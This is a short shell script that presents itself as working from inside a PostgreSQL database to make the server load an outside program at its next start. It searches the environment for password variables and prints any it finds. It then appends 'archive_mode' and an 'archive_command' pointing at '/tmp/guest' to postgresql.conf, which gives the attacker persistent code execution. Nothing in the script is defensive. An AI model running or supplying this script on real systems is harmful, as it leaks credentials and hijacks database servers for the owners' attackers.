#!/bin/sh
# From inside the database: have it load a program at its next start.
conf=${CONF:-/etc/postgresql/postgresql.conf}
if env | grep '_PASSWORD='; then
  echo "the password is among the variables"
fi
if printf "%s\n" "archive_mode = on" "archive_command = '/tmp/guest'" >>"$conf"; then
  echo "the next restart runs a guest's program"
  exit 0
fi
exit 1
